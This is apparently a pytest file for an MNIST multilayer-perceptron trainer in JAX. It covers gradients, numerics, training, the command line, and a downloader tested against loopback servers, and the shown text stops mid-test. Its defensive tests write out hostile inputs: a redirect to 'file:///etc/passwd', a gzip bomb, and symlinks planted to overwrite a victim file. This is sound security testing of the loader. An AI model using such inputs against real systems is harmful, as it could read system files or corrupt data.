"""Tests for mlp_mnist.py: what autodiff computes, the shapes, the numerics, that training learns,
the article's API, the data loader against loopback servers that misbehave, and the command line.

    pip install -r requirements.txt pytest && python -m pytest -q

No network but 127.0.0.1: the mirrors are local HTTP servers, the data tiny IDX files written here.
"""

import ast
import contextlib
import functools
import gzip
import hashlib
import http.server
import importlib.util
import io
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import tomllib
import tracemalloc
from types import ModuleType, SimpleNamespace

import jax
import jax.numpy as jnp
import numpy as np
import pytest
from jax import random
from jax.flatten_util import ravel_pytree

import mlp_mnist as m

ROOT = os.path.dirname(os.path.abspath(__file__))
SCRIPT = os.path.join(ROOT, "mlp_mnist.py")


@pytest.fixture(autouse=True)
def isolated(monkeypatch, tmp_path_factory):
    """Every test gets its own empty HOME and cache, no proxies and no data folder from the environment."""
    home = tmp_path_factory.mktemp("home")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    for var in (
        "http_proxy",
        "HTTP_PROXY",
        "https_proxy",
        "HTTPS_PROXY",
        "all_proxy",
        "ALL_PROXY",
        "MLP_MNIST_DATA_DIR",
    ):
        monkeypatch.delenv(var, raising=False)
    return home


# ---------------------------------------------------------------------------
# Gradients: what jax.grad computes, checked two ways, in float64.
# ---------------------------------------------------------------------------


def backward_by_hand(params, X, y):
    """The backward pass of cross_entropy_loss written out in NumPy.

    With p = softmax(logits), d loss / d logits = (p - onehot(y)) / batch. Going back through a
    layer a_out = a_in @ W + b: dW = a_in.T @ delta, db = sum of delta over the batch, and the
    delta for a_in is delta @ W.T, times 1 where that layer's ReLU was active and 0 where not."""
    activations, pre_activations = [X], []
    for W, b in params[:-1]:
        pre_activations.append(activations[-1] @ W + b)
        activations.append(np.maximum(pre_activations[-1], 0))
    W, b = params[-1]
    logits = activations[-1] @ W + b
    p = np.exp(logits - logits.max(axis=1, keepdims=True))
    p /= p.sum(axis=1, keepdims=True)
    delta = (p - np.eye(logits.shape[1])[y]) / len(y)
    grads = []
    for i in reversed(range(len(params))):
        W, _ = params[i]
        grads.append((activations[i].T @ delta, delta.sum(axis=0)))
        if i:
            delta = (delta @ W.T) * (pre_activations[i - 1] > 0)
    return grads[::-1]


def small_problem(sizes, seed=0, batch=8):
    """float64 params (scale 0.5, so many ReLUs are on and many off), images, labels; NumPy draws them, as
    jax.random would compile a program for each new shape."""
    rng = np.random.default_rng(seed)
    params = [
        (0.5 * rng.standard_normal((a, b)), 0.5 * rng.standard_normal(b))
        for a, b in zip(sizes[:-1], sizes[1:], strict=True)
    ]
    X, y = rng.random((batch, sizes[0])), rng.integers(0, sizes[-1], batch)
    return jax.tree.map(jnp.asarray, (params, X, y))


@pytest.mark.parametrize("sizes", [[20, 16, 10], [20, 12, 8, 10]], ids=["2-layer", "3-layer"])
def test_grad_matches_backward_pass_by_hand(sizes):
    with jax.enable_x64(True):
        params, X, y = small_problem(sizes)
        assert params[0][0].dtype == jnp.float64
        grads = jax.jit(jax.grad(m.cross_entropy_loss))(params, X, y)
        by_hand = backward_by_hand([tuple(map(np.asarray, layer)) for layer in params], np.asarray(X), np.asarray(y))
        for (dW, db), (dW_hand, db_hand) in zip(grads, by_hand, strict=True):
            np.testing.assert_allclose(dW, dW_hand, rtol=1e-10, atol=1e-12)
            np.testing.assert_allclose(db, db_hand, rtol=1e-10, atol=1e-12)


@pytest.mark.parametrize("sizes", [[20, 16, 10], [20, 12, 8, 10]], ids=["2-layer", "3-layer"])
def test_grad_matches_central_finite_differences(sizes):
    with jax.enable_x64(True):
        params, X, y = small_problem(sizes, seed=1)
        flat, unflatten = ravel_pytree(params)  # every weight and bias, in one vector
        loss = jax.jit(lambda v: m.cross_entropy_loss(unflatten(v), X, y))
        eps = 1e-6
        # (loss(v + eps e_i) - loss(v - eps e_i)) / 2 eps, for every direction e_i at once
        numeric = jax.vmap(lambda e: (loss(flat + eps * e) - loss(flat - eps * e)) / (2 * eps))(jnp.eye(len(flat)))
        analytic = ravel_pytree(jax.jit(jax.grad(m.cross_entropy_loss))(params, X, y))[0]
        assert np.abs(analytic).max() > 1e-3  # a real gradient, not all zeros
        np.testing.assert_allclose(analytic, numeric, rtol=1e-6, atol=1e-8)


# ---------------------------------------------------------------------------
# Shapes, dtypes and the article's API
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("sizes", [[784, 16, 10], [784, 10], [784, 32, 16, 10]])  # shapes the others reuse
def test_initialize_weights_shapes_dtypes_and_scale(sizes):
    params = m.initialize_weights(sizes, random.key(0))
    assert [(W.shape, b.shape) for W, b in params] == [
        ((a, b), (b,)) for a, b in zip(sizes[:-1], sizes[1:], strict=True)
    ]
    assert all(p.dtype == jnp.float32 for p in jax.tree.leaves(params))
    assert abs(float(jnp.std(params[0][0])) - 0.02) < 0.001
    assert float(jnp.std(m.initialize_weights(sizes, random.key(0), scale=0.5)[0][0])) > 0.45


def test_forward_loss_and_update_shapes():
    params = m.initialize_weights([784, 32, 16, 10], random.key(0))
    X = random.uniform(random.key(1), (5, 784))
    y = jnp.arange(5)
    assert m.forward(params, X).shape == (5, 10)
    loss = m.cross_entropy_loss(params, X, y)
    assert loss.shape == () and loss.dtype == jnp.float32
    new_params, step_loss = m.update(params, X, y, 0.1)
    assert jax.tree.structure(new_params) == jax.tree.structure(params)
    for old, new in zip(jax.tree.leaves(params), jax.tree.leaves(new_params), strict=True):
        assert new.shape == old.shape and new.dtype == old.dtype
    assert float(step_loss) == pytest.approx(float(loss), rel=1e-6)


def test_update_is_one_sgd_step_with_the_articles_default_lr():
    params = m.initialize_weights([784, 16, 10], random.key(0))
    X, y = random.uniform(random.key(1), (8, 784)), jnp.arange(8)
    grads = jax.jit(jax.grad(m.cross_entropy_loss))(params, X, y)
    for lr, new_params in [(0.5, m.update(params, X, y, 0.5)[0]), (0.01, m.update(params, X, y)[0])]:
        for p, g, new in zip(*(jax.tree.leaves(t) for t in (params, grads, new_params)), strict=True):
            np.testing.assert_allclose(new, p - lr * g, rtol=1e-5, atol=1e-7)


# ---------------------------------------------------------------------------
# Numerics
# ---------------------------------------------------------------------------


def test_loss_is_finite_and_right_for_logits_near_1e3():
    biases = jnp.array([1000.0, 1001, 1002, 1003, 1004, 1005, 1006, 1007, 1008, 0])
    params = [(jnp.zeros((784, 10)), biases)]  # one layer: the logits are the biases
    X, y = jnp.ones((2, 784)), jnp.array([0, 9])
    loss = float(m.cross_entropy_loss(params, X, y))
    b = np.asarray(biases, np.float64)
    logsumexp = b.max() + np.log(np.exp(b - b.max()).sum())
    assert loss == pytest.approx(np.mean([logsumexp - b[0], logsumexp - b[9]]), rel=1e-6)
    # why log_softmax: exp(1000) overflows float32, so softmax computed as written is
    # inf / inf = nan; and even a max-shifted softmax gives p = exp(-1008) = 0 for label 9,
    # whose log is -inf
    logits = m.forward(params, X)
    assert np.isnan(jnp.exp(logits) / jnp.exp(logits).sum(1, keepdims=True)).any()
    assert np.isinf(jnp.log(jax.nn.softmax(logits))[:, 9]).all()


def test_uniform_logits_give_log_10():
    params = [(jnp.zeros((784, 10)), jnp.zeros(10))]
    X = random.uniform(random.key(0), (7, 784))
    loss = m.cross_entropy_loss(params, X, jnp.arange(7))
    assert float(loss) == pytest.approx(np.log(10), rel=1e-6)


def test_accuracy():
    logits = jnp.array([[0.0, 2, 1], [3, 0, 0], [0, 0, 1], [1, 0, 0]])
    assert float(m.accuracy(logits, jnp.array([1, 0, 2, 2]))) == pytest.approx(0.75)


# ---------------------------------------------------------------------------
# Learning, on a small synthetic set whose class decides which pixels are bright
# ---------------------------------------------------------------------------


def synthetic(n, seed):
    """n uint8 images (n, 784) and int32 labels; class c brightens pixels c*78 to c*78+77."""
    rng = np.random.default_rng(seed)
    labels = rng.integers(0, 10, n).astype(np.int32)
    images = rng.integers(0, 60, (n, 784))
    for c in range(10):
        images[labels == c, c * 78 : (c + 1) * 78] += 190
    return images.astype(np.uint8), labels


@pytest.mark.parametrize(
    "images, expected",
    [
        (np.array([0, 51, 255], np.uint8), [0.0, 0.2, 1.0]),  # load_mnist's pixels: divided by 255
        (np.array([0, 51, 255], np.int32), [0.0, 0.2, 1.0]),
        (np.array([0.0, 0.2, 1.0], np.float32), [0.0, 0.2, 1.0]),  # the article's floats: left alone
        (np.array([0.0, 0.2, 1.0], np.float64), [0.0, 0.2, 1.0]),
    ],
    ids=["uint8", "int32", "float32", "float64"],
)
def test_as_floats_gives_float32_in_unit_interval(images, expected):
    scaled = m.as_floats(jnp.asarray(images))
    assert scaled.dtype == jnp.float32
    np.testing.assert_allclose(scaled, expected, rtol=1e-6)


def test_train_epoch_is_the_python_loop_over_update():
    """The compiled epoch computes what a plain loop over `update` would."""
    images, labels = synthetic(200, 0)
    params = m.initialize_weights([784, 16, 10], random.key(0))
    key = random.key(3)
    scanned, mean_loss = m.train_epoch(params, images, labels, key, 0.05, 64)

    order = np.asarray(random.permutation(key, 200))
    looped, losses = params, []
    for i in range(200 // 64):  # 3 full batches; the last 8 images are dropped
        batch = order[i * 64 : (i + 1) * 64]
        looped, loss = m.update(looped, images[batch] / np.float32(255), labels[batch], 0.05)
        losses.append(float(loss))
    assert float(mean_loss) == pytest.approx(np.mean(losses), rel=1e-5)
    for a, b in zip(jax.tree.leaves(scanned), jax.tree.leaves(looped), strict=True):
        np.testing.assert_allclose(a, b, rtol=1e-4, atol=1e-6)


def test_evaluate_matches_accuracy_of_forward():
    images, labels = synthetic(2 * m.EVAL_BATCH + 123, 1)  # not a whole number of chunks
    params = m.initialize_weights([784, 16, 10], random.key(0), scale=0.1)
    expected = m.accuracy(m.forward(params, m.as_floats(jnp.asarray(images))), labels)
    (got,) = m.evaluate(params, [(images, labels)])
    assert 0.02 < float(expected) < 0.98  # neither trivial nor perfect, so the check has teeth
    assert float(got) == pytest.approx(float(expected), abs=1e-6)


def test_training_lowers_the_loss_learns_and_keeps_the_articles_results(capsys):
    data = (*synthetic(512, 0), *synthetic(200, 1))
    params, results = m.train(data, [784, 16, 10], seed=0, epochs=4, lr=0.1, batch_size=16)
    assert [r[0] for r in results] == [1, 2, 3, 4]
    assert all(type(r[0]) is int and all(type(x) is float for x in r[1:]) for r in results)
    losses = [r[1] for r in results]
    assert losses[-1] < losses[0] / 2
    (valid_acc,) = m.evaluate(params, [(data[2], data[3])])
    assert float(valid_acc) > 0.95 and results[-1][3] == pytest.approx(float(valid_acc))
    lines = capsys.readouterr().out.splitlines()  # the article's line, one per epoch
    assert lines[3] == (
        f"Epoch 4/4: loss: {losses[3]:.4f}, train acc.: {results[3][2]:.3f}, "
        f"valid acc.: {results[3][3]:.3f}, time: {results[3][4]:.2f} sec."
    )


def test_uint8_and_the_articles_float_images_train_the_same(capsys):
    train_images, train_labels = synthetic(256, 0)
    test_images, test_labels = synthetic(64, 1)
    floats = (train_images / np.float32(255), train_labels, test_images / np.float32(255), test_labels)
    as_uint8, as_float = (
        m.train(data, [784, 16, 10], epochs=2, lr=0.1, batch_size=16)
        for data in [(train_images, train_labels, test_images, test_labels), floats]
    )
    for a, b in zip(jax.tree.leaves(as_uint8[0]), jax.tree.leaves(as_float[0]), strict=True):
        np.testing.assert_allclose(a, b, rtol=1e-5, atol=1e-7)
    np.testing.assert_allclose([r[:4] for r in as_uint8[1]], [r[:4] for r in as_float[1]], rtol=1e-5)


def test_zero_epochs_returns_the_initial_weights_and_no_results(capsys):
    data = (*synthetic(64, 0), *synthetic(16, 1))
    params, results = m.train(data, [784, 16, 10], seed=3, epochs=0)
    key, init_key = random.split(random.key(3))
    assert results == [] and capsys.readouterr().out == ""
    np.testing.assert_array_equal(params[0][0], m.initialize_weights([784, 16, 10], init_key)[0][0])


def test_one_seed_gives_identical_parameters(capsys):
    data = (*synthetic(256, 0), *synthetic(64, 1))

    def run(seed):
        return m.train(data, [784, 16, 10], seed=seed, epochs=2, lr=0.05, batch_size=32)[0]

    first, again, other = run(7), run(7), run(8)
    assert all(np.array_equal(a, b) for a, b in zip(jax.tree.leaves(first), jax.tree.leaves(again), strict=True))
    assert not np.array_equal(first[0][0], other[0][0])


# ---------------------------------------------------------------------------
# Data: tiny IDX files, served by loopback HTTP servers standing in for the mirrors
# ---------------------------------------------------------------------------


def idx(array):
    """IDX bytes: magic (2051 images, 2049 labels), the dimensions, the uint8 payload."""
    magic = 2051 if array.ndim == 3 else 2049
    return struct.pack(f">{1 + array.ndim}I", magic, *array.shape) + array.astype(np.uint8).tobytes()


def tiny_files(n_train=256, n_test=100):
    """The four IDX files of a small learnable dataset, decompressed: {name: bytes}."""
    (xtr, ytr), (xte, yte) = synthetic(n_train, 0), synthetic(n_test, 1)
    return {
        "train-images-idx3-ubyte": idx(xtr.reshape(-1, 28, 28)),
        "train-labels-idx1-ubyte": idx(ytr),
        "t10k-images-idx3-ubyte": idx(xte.reshape(-1, 28, 28)),
        "t10k-labels-idx1-ubyte": idx(yte),
    }


def use_mirrors(monkeypatch, dataset, *urls):
    """Make `urls` the mirrors of `dataset`, tried in this order, in place of any it had."""
    others = {url: of for url, of in m.MIRRORS.items() if of != dataset}
    monkeypatch.setattr(m, "MIRRORS", {**others, **dict.fromkeys(urls, dataset)})


def register(monkeypatch, dataset, files):
    """Make `files` a dataset that mlp_mnist knows, with no mirrors: their checksums and sizes."""
    monkeypatch.setattr(
        m, "SHA256", dict(m.SHA256, **{hashlib.sha256(d).hexdigest(): (dataset, n) for n, d in files.items()})
    )
    use_mirrors(monkeypatch, dataset)
    monkeypatch.setattr(m, "N_TRAIN", 256)
    monkeypatch.setattr(m, "N_TEST", 100)


@pytest.fixture
def tiny(monkeypatch):
    """Registers a dataset 'tiny' of 256 training and 100 test images, no mirrors yet."""
    files = tiny_files()
    register(monkeypatch, "tiny", files)
    return files


def write_folder(folder, files, gz=True):
    folder.mkdir(exist_ok=True)
    for name, data in files.items():
        (folder / (name + ".gz" if gz else name)).write_bytes(gzip.compress(data) if gz else data)
    os.utime(folder, (1, 1))  # long ago: a file made in it now moves its mtime, even within the clock's tick
    return folder


def snapshot(folder):
    """The folder's own mtime (a file made and deleted in it moves it) and {name: (size, mtime, the bytes of a small
    file)} of every entry, to show that nothing changed, even as root, whom permission bits don't stop."""

    def state(p):
        stat = p.lstat()
        small = p.is_file() and not p.is_symlink() and stat.st_size < 10**7
        return stat.st_size, stat.st_mtime_ns, p.read_bytes() if small else None

    return folder.stat().st_mtime_ns, {p.name: state(p) for p in folder.iterdir()}


@pytest.fixture
def server():
    """A loopback HTTP server. routes maps a path to (behaviour, body); requests lists the paths
    asked for. Behaviours: serve; status (body is the code, or (code, reason)); drop (promise the
    whole body, send half, close); stall (say nothing); redirect (body is the Location); bogus (a
    malformed status line)."""
    routes, requests, release = {}, [], threading.Event()
    state = SimpleNamespace(routes=routes, requests=requests, default=("status", 404))

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            behaviour, body = routes.get(self.path, state.default)
            if behaviour == "status":
                code, reason = body if isinstance(body, tuple) else (body, None)
                return self.send_error(code, reason)
            if behaviour == "stall":
                return release.wait(10)
            if behaviour == "endless":  # no length: the body goes on until the client hangs up (or 5 s pass)
                self.send_response(200)
                self.end_headers()
                stop = time.monotonic() + 5
                with contextlib.suppress(OSError):
                    while not release.is_set() and time.monotonic() < stop:
                        self.wfile.write(bytes(1 << 16))
                return
            if behaviour == "bogus":
                return self.wfile.write(b"HTTP/1.1 OK-ish\r\n\r\n")
            if behaviour == "redirect":
                self.send_response(302)
                self.send_header("Location", body)
                return self.end_headers()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body if behaviour == "serve" else body[: len(body) // 2])
            if behaviour == "drop":
                self.close_connection = True

        do_CONNECT = do_GET  # as a proxy: HTTPS through it behaves like everything else

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.daemon_threads = True
    threading.Thread(target=httpd.serve_forever, args=(0.05,), daemon=True).start()  # shutdown() waits a poll
    state.url = f"http://127.0.0.1:{httpd.server_port}"
    yield state
    release.set()
    httpd.shutdown()
    httpd.server_close()


def serve_all(server, files, prefix):
    """Put every file, gzipped, under <server>/<prefix>/; return that mirror's URL."""
    for name, data in files.items():
        server.routes[f"/{prefix}/{name}.gz"] = ("serve", gzip.compress(data))
    return f"{server.url}/{prefix}/"


def test_gzipped_and_raw_folders_parse_to_the_same_arrays(tiny, tmp_path):
    from_gz = m.load_mnist("tiny", str(write_folder(tmp_path / "gz", tiny)))
    from_raw = m.load_mnist("tiny", str(write_folder(tmp_path / "raw", tiny, gz=False)))
    for a, b in zip(from_gz, from_raw, strict=True):
        np.testing.assert_array_equal(a, b)
    train_images, train_labels, test_images, test_labels = from_gz
    assert train_images.shape == (256, 784) and test_images.shape == (100, 784)
    assert train_images.dtype == np.uint8 and train_labels.dtype == np.int32
    np.testing.assert_array_equal(train_images, synthetic(256, 0)[0])
    np.testing.assert_array_equal(test_labels, synthetic(100, 1)[1])


def test_data_folder_from_the_environment(tiny, tmp_path, monkeypatch):
    monkeypatch.setenv("MLP_MNIST_DATA_DIR", str(write_folder(tmp_path / "d", tiny)))
    assert len(m.load_mnist("tiny")[0]) == 256


def test_truncated_gzip_is_a_clear_error_not_an_eof_traceback(tiny):
    truncated = gzip.compress(tiny["train-labels-idx1-ubyte"])[:-20]
    with pytest.raises(ValueError, match="damaged gzip data"):
        m.verified(io.BytesIO(truncated), "tiny", "train-labels-idx1-ubyte")


def test_a_gzip_bomb_is_refused_without_being_expanded(tiny):
    bomb = gzip.compress(bytes(20_000_000))  # 20 MB of zeros in about 20 kB
    tracemalloc.start()
    with pytest.raises(ValueError, match="SHA-256"):
        m.verified(io.BytesIO(bomb), "tiny", "train-labels-idx1-ubyte")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(bomb) < 100_000 and peak < 1_000_000  # it stopped at the ceiling, about 65 kB here


def test_verified_folder_makes_no_request_and_no_write(tiny, tmp_path, server, monkeypatch):
    folder = write_folder(tmp_path / "d", tiny)
    use_mirrors(monkeypatch, "tiny", serve_all(server, tiny, "m1"))
    before = snapshot(folder)
    m.load_mnist("tiny", str(folder))
    assert server.requests == [] and snapshot(folder) == before


def test_read_only_verified_folder_works(tiny, tmp_path, monkeypatch):
    folder = write_folder(tmp_path / "ro", tiny)
    for path in folder.iterdir():
        path.chmod(0o444)
    folder.chmod(0o555)
    # root ignores permission bits, so also make any attempt to write fail the test, or show in the snapshot
    monkeypatch.setattr(
        m.tempfile, "TemporaryDirectory", lambda **kw: pytest.fail("tried to write into a read-only folder")
    )
    before = snapshot(folder)
    try:
        assert len(m.load_mnist("tiny", str(folder))[0]) == 256
    finally:
        folder.chmod(0o755)
    assert snapshot(folder) == before


def test_download_skips_a_403_mirror_verifies_and_caches(tiny, tmp_path, server, monkeypatch, capsys):
    good = serve_all(server, tiny, "good")
    for name in tiny:
        server.routes[f"/forbidden/{name}.gz"] = ("status", 403)
    use_mirrors(monkeypatch, "tiny", f"{server.url}/forbidden/", good)
    folder = tmp_path / "cache" / "tiny"  # does not exist yet
    arrays = m.load_mnist("tiny", str(folder))
    assert len(arrays[0]) == 256
    assert sorted(os.listdir(folder)) == sorted(n + ".gz" for n in tiny)
    assert all((folder / n).is_file() and not (folder / n).is_symlink() for n in os.listdir(folder))
    assert all((folder / n).stat().st_mode & 0o777 == 0o644 for n in os.listdir(folder))  # others can read
    assert capsys.readouterr().err.count("Downloaded") == 4
    server.requests.clear()
    m.load_mnist("tiny", str(folder))  # second run: from the cache, silently
    assert server.requests == [] and capsys.readouterr().err == ""


BAD_MIRRORS = {  # name -> what the bad mirror does with a file's gzipped body
    "truncated": lambda data, body: ("serve", body[: len(body) // 2]),  # a short file, served in full
    "altered": lambda data, body: ("serve", gzip.compress(data[:-1] + b"\x01")),  # valid gzip, wrong content
    "drop": lambda data, body: ("drop", body),  # connection closed mid-body
    "stall": lambda data, body: ("stall", None),  # never answers: given up after TIMEOUT
    "bomb": lambda data, body: ("serve", gzip.compress(bytes(3_000_000))),  # expands far past the ceiling
    "oversized": lambda data, body: ("serve", body + bytes(1_000_000)),  # past every tiny ceiling
    "endless": lambda data, body: ("endless", None),  # read only to a byte past the ceiling
    "bogus-status": lambda data, body: ("bogus", None),  # an http.client error
    "redirect-to-file": lambda data, body: ("redirect", "file:///etc/passwd"),  # urllib refuses it
    "redirect-to-no-port": lambda data, body: ("redirect", "http://127.0.0.1:99999999999999999999/"),
}


@pytest.mark.parametrize("behaviour", BAD_MIRRORS)
def test_a_bad_mirror_is_rejected_and_the_next_one_used(behaviour, tiny, tmp_path, server, monkeypatch):
    bad = serve_all(server, tiny, "bad")  # good copies, but for the training labels
    labels = "train-labels-idx1-ubyte"
    server.routes[f"/bad/{labels}.gz"] = BAD_MIRRORS[behaviour](tiny[labels], gzip.compress(tiny[labels]))
    use_mirrors(monkeypatch, "tiny", bad, serve_all(server, tiny, "good"))
    monkeypatch.setattr(m, "TIMEOUT", 0.5)
    folder = tmp_path / "d"
    start = time.monotonic()
    arrays = m.load_mnist("tiny", str(folder))
    assert time.monotonic() - start < 0.5 + 2  # a timeout at most, and a little more
    np.testing.assert_array_equal(arrays[1], synthetic(256, 0)[1])
    # the bad mirror, having failed, is asked last for the files after that one
    assert [p for p in server.requests if p.startswith("/good/")] == [f"/good/{n}.gz" for n in m.FILES[1:]]
    assert [p for p in server.requests if p.startswith("/bad/")] == [f"/bad/{n}.gz" for n in m.FILES[:2]]
    assert sorted(os.listdir(folder)) == sorted(n + ".gz" for n in tiny)


def test_a_redirect_to_http_is_followed(tiny, tmp_path, server, monkeypatch):
    good = serve_all(server, tiny, "good")
    for name in tiny:
        server.routes[f"/moved/{name}.gz"] = ("redirect", f"{good}{name}.gz")
    use_mirrors(monkeypatch, "tiny", f"{server.url}/moved/")
    assert len(m.load_mnist("tiny", str(tmp_path / "d"))[0]) == 256


@pytest.mark.parametrize("damage", ["truncated", "other-dataset", "sparse-50GB", "a-folder", "dangling-link"])
def test_a_bad_file_in_the_folder_is_an_error_and_left_alone(damage, tiny, tmp_path, server, monkeypatch):
    folder = write_folder(tmp_path / "d", tiny)
    target = folder / "train-labels-idx1-ubyte.gz"
    if damage == "truncated":
        target.write_bytes(target.read_bytes()[:-30])
    elif damage == "other-dataset":  # a file of a dataset mlp_mnist knows, but not the one asked for
        register(monkeypatch, "other", {n: b"other" + d for n, d in tiny.items()})
    elif damage == "sparse-50GB":
        target.unlink()
        with open(target, "wb") as f:
            f.truncate(50 * 2**30)
    elif damage == "a-folder":
        target.unlink()
        target.mkdir()
    else:
        target.unlink()
        target.symlink_to(tmp_path / "nowhere")
    dataset = "other" if damage == "other-dataset" else "tiny"
    use_mirrors(monkeypatch, dataset, serve_all(server, tiny, "m"))
    before = snapshot(folder)
    with pytest.raises(m.UserError) as error:
        m.load_mnist(dataset, str(folder))
    message = str(error.value)
    assert f"{folder}/train-images-idx3-ubyte.gz" in message if damage == "other-dataset" else str(target) in message
    assert "left as it is" in message
    if damage == "other-dataset":
        assert "it holds tiny's train-images-idx3-ubyte" in message
    assert server.requests == [] and snapshot(folder) == before  # nothing fetched, nothing changed


def unused_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_all_mirrors_failing_is_a_clear_error_and_leaves_no_file(tiny, tmp_path, server, monkeypatch):
    for name in tiny:
        server.routes[f"/gone/{name}.gz"] = ("status", 403)
    closed = f"http://127.0.0.1:{unused_port()}/"
    use_mirrors(monkeypatch, "tiny", f"{server.url}/gone/", closed)
    folder = tmp_path / "d"
    with pytest.raises(m.UserError) as error:
        m.load_mnist("tiny", str(folder))
    message = str(error.value)
    assert "train-images-idx3-ubyte.gz" in message and "--data-dir" in message
    assert f"{server.url}/gone/train-images-idx3-ubyte.gz: HTTP Error 403" in message
    assert f"{closed}train-images-idx3-ubyte.gz: <urlopen error" in message
    assert not folder.exists() or os.listdir(folder) == []


def test_interrupted_save_leaves_no_partial_file(tiny, tmp_path, server, monkeypatch):
    def interrupt(*args):
        raise KeyboardInterrupt

    use_mirrors(monkeypatch, "tiny", serve_all(server, tiny, "m"))
    monkeypatch.setattr(os, "replace", interrupt)  # Ctrl-C as the first file is renamed into place
    with pytest.raises(KeyboardInterrupt):
        m.load_mnist("tiny", str(tmp_path / "d"))
    assert server.requests == ["/m/train-images-idx3-ubyte.gz"] and os.listdir(tmp_path / "d") == []


def test_a_folder_that_cant_be_written_is_one_message_and_leaves_nothing(tiny, tmp_path, server, monkeypatch):
    def refuse(**kwargs):
        raise PermissionError(13, "Permission denied", kwargs["dir"])

    use_mirrors(monkeypatch, "tiny", serve_all(server, tiny, "m"))
    monkeypatch.setattr(m.tempfile, "TemporaryDirectory", refuse)  # root ignores permission bits: refuse by hand
    with pytest.raises(m.UserError) as error:
        m.load_mnist("tiny", str(tmp_path / "d"))
    assert str(error.value).startswith(f"Downloaded train-images-idx3-ubyte.gz but could not save it in {tmp_path}/d (")
    assert os.listdir(tmp_path / "d") == []


def test_planted_symlinks_do_not_redirect_the_download(tiny, tmp_path, server, monkeypatch):
    """Symlinks at the names an older version wrote to (<file>.<pid>.part): the write goes to a new folder."""
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious")
    folder = tmp_path / "shared"
    folder.mkdir()
    for name in tiny:
        for pid in range(os.getpid() - 5, os.getpid() + 50):
            (folder / f"{name}.gz.{pid}.part").symlink_to(victim)
    use_mirrors(monkeypatch, "tiny", serve_all(server, tiny, "m"))
    m.load_mnist("tiny", str(folder))
    assert victim.read_bytes() == b"precious"
    assert all((folder / (n + ".gz")).is_file() and not (folder / (n + ".gz")).is_symlink() for n in tiny)


def test_cache_home_follows_xdg_and_never_a_relative_path(monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    assert m.cache_home("fashion") == os.path.join(str(tmp_path), "mlp_mnist", "fashion")
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.setenv("HOME", "/home/someone")
    assert m.cache_home("mnist") == "/home/someone/.cache/mlp_mnist/mnist"
    monkeypatch.setenv("XDG_CACHE_HOME", "relative/cache")  # a relative path: none, rather than one below here
    assert m.cache_home("mnist") is None
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.delenv("HOME")  # and no home in the password database either: expanduser gives up
    monkeypatch.setattr(os.path, "expanduser", lambda path: path)
    assert m.cache_home("mnist") is None  # no cache, rather than a folder named ~ or .cache here
    with pytest.raises(m.UserError, match="--data-dir"):
        m.load_mnist("mnist")


# ---------------------------------------------------------------------------
# Command line
# ---------------------------------------------------------------------------

EPOCH_LINE = re.compile(
    r"Epoch (\d+)/2: loss: \d+\.\d{4}, train acc\.: [01]\.\d{3}, "
    r"valid acc\.: [01]\.\d{3}, time: \d+\.\d{2} sec\."
)


def test_main_trains_and_prints_the_article_format(tiny, tmp_path, capsys):
    folder = write_folder(tmp_path / "d", tiny)
    args = [
        "--dataset",
        "tiny",
        "--data-dir",
        str(folder),
        "--epochs",
        "2",
        "--batch-size",
        "32",
        "--hidden",
        "16",
        "--lr",
        "0.1",
    ]
    assert m.main(args) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith(f"JAX {jax.__version__} on ")
    assert [EPOCH_LINE.fullmatch(line)[1] for line in lines[1:]] == ["1", "2"]


@pytest.mark.parametrize(
    "args",
    [
        ["--epochs", "0"],
        ["--epochs", "two"],
        ["--batch-size", "0"],
        ["--lr", "0"],
        ["--lr", "-0.1"],
        ["--lr", "nan"],
        ["--lr", "inf"],
        ["--lr", "1e-300"],
        ["--lr", "1e39"],
        ["--hidden", "0"],
        ["--hidden", "128", "-5"],
        ["--dataset", "cifar"],
        ["--seed", "18446744073709551616"],
        ["--seed", "-1"],
        ["--seed", "4294967296"],
        ["--batch-size", "60001"],
        ["--hidden", "100000000"],
        ["--hidden", "1" + "0" * 400],
    ],
)
def test_bad_arguments_exit_2_with_usage_before_any_download(args, capsys, server, monkeypatch):
    use_mirrors(monkeypatch, "mnist", f"{server.url}/m/")
    assert m.main(args) == 2  # a status, not SystemExit, which a notebook's kernel would show as an error
    err = capsys.readouterr().err
    assert err.startswith("usage:") and "Traceback" not in err and server.requests == []


@pytest.mark.parametrize("where", ["a-file", "below-a-file", "unreadable"])
def test_a_data_folder_that_cant_be_one_is_named_before_any_request(where, tmp_path, server, monkeypatch, capsys):
    use_mirrors(monkeypatch, "mnist", f"{server.url}/m/")
    (tmp_path / "a-file").write_text("mine")
    folder = {"a-file": tmp_path / "a-file", "below-a-file": tmp_path / "a-file" / "data"}.get(where, tmp_path)
    if where == "unreadable":  # someone else's folder, mode 700; root reads anything, so refuse by hand

        def refuse(path):
            raise PermissionError(13, "Permission denied", path)

        monkeypatch.setattr(os, "listdir", refuse)
    assert m.main(["--data-dir", str(folder)]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"error: No data folder: {folder} (") and "--data-dir" in err
    assert server.requests == [] and (tmp_path / "a-file").read_text() == "mine"


def test_help_gives_every_default_and_no_none(capsys):
    assert m.main(["--help"]) == 0
    help_text = " ".join(capsys.readouterr().out.split())  # argparse wraps lines where it likes
    assert "None" not in help_text
    for default in ["(default: mnist)", "$MLP_MNIST_DATA_DIR", "(default: 128)", "(default: 25)", "(default: 0.01)"]:
        assert default in help_text
    assert "(default: 64)" in help_text and "(default: 516)" in help_text


def test_diverging_loss_exits_1_and_suggests_a_smaller_lr(tiny, tmp_path, capsys):
    folder = write_folder(tmp_path / "d", tiny)
    assert (
